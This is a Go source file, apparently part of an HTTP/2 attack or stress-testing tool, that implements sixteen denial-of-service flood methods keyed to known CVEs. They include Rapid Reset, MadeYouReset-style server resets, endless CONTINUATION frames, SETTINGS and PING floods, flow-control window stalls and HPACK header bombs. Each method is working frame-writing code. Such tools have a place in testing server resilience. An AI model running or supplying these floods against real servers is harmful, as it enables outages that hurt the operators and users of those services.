package attack

import (
	"errors"
	"fmt"
	"math"
	"strings"

	h2 "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// FloodKind is a way to attack a server with HTTP/2. Each kind is a known vulnerability of servers.
type FloodKind uint8

// The kinds.
const (
	RapidReset        FloodKind = iota // opens streams and resets them at once (CVE-2023-44487)
	ServerReset                        // opens streams and makes the server reset them, in four ways (CVE-2025-8671, "MadeYouReset")
	ResetFlood                         // as ServerReset, and reads nothing (CVE-2019-9514)
	ContinuationFlood                  // begins a head and continues it without end (CVE-2023-45288)
	EmptyContinuation                  // begins a head and continues it without end, with empty frames
	SlowContinuation                   // begins a head and continues it, a field each Interval
	SettingsFlood                      // sends SETTINGS and does not read the acknowledgements (CVE-2019-9515)
	PingFlood                          // sends PING and does not read the responses (CVE-2019-9512)
	PriorityFlood                      // changes the priorities of streams that do not exist (CVE-2019-9513)
	GoAwayFlood                        // sends GOAWAY with an error repeatedly, and stays connected
	EmptyData                          // sends empty frames of a body without end (CVE-2019-9518)
	WindowStall                        // requests many responses and does not allow any of their bytes to be sent
	WindowTrickle                      // requests many responses and allows a byte of each to be sent each Interval (CVE-2019-9511)
	SocketStall                        // requests many responses, allows all to be sent, and reads nothing (CVE-2019-9517)
	HeaderBomb                         // sends a large field once, to which each request refers 8,000 times (CVE-2016-6581)
	FieldBomb                          // as many fields and open streams as the server allows (CVE-2026-49975, "HTTP/2 Bomb")
)

// FloodKinds returns all kinds.
func FloodKinds() []FloodKind {
	kinds := make([]FloodKind, len(methods))
	for i := range kinds {
		kinds[i] = FloodKind(i)
	}
	return kinds
}

// String returns the kind's name.
func (k FloodKind) String() string {
	if int(k) < len(methods) {
		return methods[k].name
	}
	return fmt.Sprintf("FloodKind(%d)", uint8(k))
}

// method is the implementation of a kind.
type method struct {
	name     string
	deaf     bool         // reads nothing after the first frames of the server
	mute     bool         // cannot respond to the server, because it is in the middle of a head
	slow     bool         // sends once each Interval
	settings []h2.Setting // sent first

	begin func(*flooding) error // called once; may be nil
	round func(*flooding) error // sends a few frames, or returns errFull
}

// errFull is returned by a round that has nothing to send before the next Interval.
var errFull = errors.New("nothing to send for now")

// noWindow and wideWindow are the settings of how much the server may send on each stream.
var (
	noWindow   = []h2.Setting{{ID: h2.SettingInitialWindowSize, Val: 0}}
	wideWindow = []h2.Setting{{ID: h2.SettingInitialWindowSize, Val: math.MaxInt32}}
)

// methods is a table of the kinds; it is not modified.
var methods = [...]method{
	RapidReset:  {name: "RapidReset", round: (*flooding).rapidReset},
	ServerReset: {name: "ServerReset", round: (*flooding).serverReset},
	ResetFlood:  {name: "ResetFlood", round: (*flooding).serverReset, deaf: true},
	ContinuationFlood: {
		name: "ContinuationFlood", settings: noWindow, begin: (*flooding).beginHead, round: (*flooding).continueHead, mute: true,
	},
	EmptyContinuation: {
		name: "EmptyContinuation", settings: noWindow, begin: (*flooding).beginHead, round: (*flooding).continueEmpty, mute: true,
	},
	SlowContinuation: {
		name: "SlowContinuation", settings: noWindow,
		begin: (*flooding).beginHead, round: (*flooding).continueSlowly, mute: true, slow: true,
	},
	SettingsFlood: {name: "SettingsFlood", round: (*flooding).changeSettings, deaf: true},
	PingFlood:     {name: "PingFlood", round: (*flooding).ping, deaf: true},
	PriorityFlood: {name: "PriorityFlood", round: (*flooding).prioritize},
	GoAwayFlood:   {name: "GoAwayFlood", settings: noWindow, begin: (*flooding).stall, round: (*flooding).leave},
	EmptyData:     {name: "EmptyData", begin: (*flooding).beginBody, round: (*flooding).emptyData},
	WindowStall:   {name: "WindowStall", settings: noWindow, round: (*flooding).stall},
	WindowTrickle: {name: "WindowTrickle", settings: noWindow, round: (*flooding).trickle},
	SocketStall:   {name: "SocketStall", settings: wideWindow, begin: (*flooding).widen, round: (*flooding).stallSocket, deaf: true},
	HeaderBomb:    {name: "HeaderBomb", round: (*flooding).headerBomb},
	FieldBomb:     {name: "FieldBomb", settings: noWindow, round: (*flooding).fieldBomb},
}

func (c *flooding) rapidReset() error {
	return errors.Join(c.request("GET", true), c.framer.WriteRSTStream(c.stream, h2.ErrCodeCancel))
}

// serverReset causes one of the errors of a stream, whether it is still open or not.
func (c *flooding) serverReset() error {
	way := c.streams % 4
	err := c.request("GET", way > 1)
	switch way {
	case 0: // a window of more than 2^31-1
		return errors.Join(err, c.framer.WriteWindowUpdate(c.stream, math.MaxInt32))
	case 1: // an increment of zero
		return errors.Join(err, c.framer.WriteWindowUpdate(c.stream, 0))
	case 2: // a stream that depends on itself
		return errors.Join(err, c.framer.WritePriority(c.stream, h2.PriorityParam{StreamDep: c.stream}))
	default: // a body after the end of the stream
		return errors.Join(err, c.framer.WriteData(c.stream, false, []byte("x")))
	}
}

// beginHead begins a head beside a pending response, so that the connection is not idle.
func (c *flooding) beginHead() error {
	return errors.Join(c.request("GET", true), c.writeHead(c.encode("GET"), false, false))
}

// continueHead sends a field that is not stored in the table, so that all frames can be the same.
func (c *flooding) continueHead() error {
	if c.field == nil {
		c.field = c.fields(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("x", 1000), Sensitive: true}, 1)
	}
	return c.framer.WriteContinuation(c.stream, false, c.field)
}

func (c *flooding) continueEmpty() error {
	return c.framer.WriteContinuation(c.stream, false, nil)
}

func (c *flooding) continueSlowly() error {
	return c.framer.WriteContinuation(c.stream, false, c.fields(hpack.HeaderField{Name: "x", Sensitive: true}, 1))
}

func (c *flooding) changeSettings() error {
	return c.framer.WriteSettings(h2.Setting{ID: h2.SettingHeaderTableSize, Val: uint32(c.out.frames % 4096)})
}

func (c *flooding) ping() error {
	return c.framer.WritePing(false, [8]byte{'f', 'l', 'o', 'o', 'd'})
}

func (c *flooding) prioritize() error {
	id := uint32(c.out.frames)<<1 | 1
	return c.framer.WritePriority(id, h2.PriorityParam{StreamDep: id + 2, Weight: uint8(id), Exclusive: true})
}

func (c *flooding) leave() error {
	return c.framer.WriteGoAway(0, h2.ErrCodeInternal, nil)
}

func (c *flooding) beginBody() error {
	return c.request("POST", false)
}

func (c *flooding) emptyData() error {
	return c.framer.WriteData(c.stream, false, nil)
}

// stall opens streams up to the limit.
func (c *flooding) stall() error {
	if c.full() {
		return errFull
	}
	c.keep()
	return c.request("GET", true)
}

func (c *flooding) trickle() error {
	if err := c.stall(); !errors.Is(err, errFull) {
		return err
	}
	return c.give()
}

// give allows one byte to be sent on each stream.
func (c *flooding) give() error {
	for _, id := range c.keeps() {
		if err := errors.Join(c.framer.WriteWindowUpdate(0, 1), c.framer.WriteWindowUpdate(id, 1)); err != nil {
			return err
		}
	}
	return errFull
}

// widen opens the window of the connection, which is small at first.
func (c *flooding) widen() error {
	return c.framer.WriteWindowUpdate(0, math.MaxInt32-65535)
}

// stallSocket stalls, and then sends a frame that needs no response, to check whether the connection is still open.
func (c *flooding) stallSocket() error {
	if err := c.stall(); !errors.Is(err, errFull) {
		return err
	}
	if err := c.framer.WritePriority(1, h2.PriorityParam{}); err != nil {
		return err
	}
	return errFull
}

// cookie returns a large field that leaves room for another one in a table of the usual 4 KiB. Servers join cookies
// again, since clients may send them in parts.
func cookie() hpack.HeaderField {
	return hpack.HeaderField{Name: "cookie", Value: strings.Repeat("c", 3000)}
}

func (c *flooding) headerBomb() error {
	return c.writeHead(append(c.encode("GET"), c.fields(cookie(), 8000)...), false, true)
}

// fieldBomb stays within the limits of the server, alternating between few large and many small fields.
func (c *flooding) fieldBomb() error {
	if c.full() {
		return c.give()
	}
	field := cookie()
	if c.streams%2 > 0 {
		field = hpack.HeaderField{Name: "x"}
	}
	n := max(c.maxHead-1000, 0) / int(field.Size())
	c.keep()
	return c.writeHead(append(c.encode("GET"), c.fields(field, n)...), false, true)
}
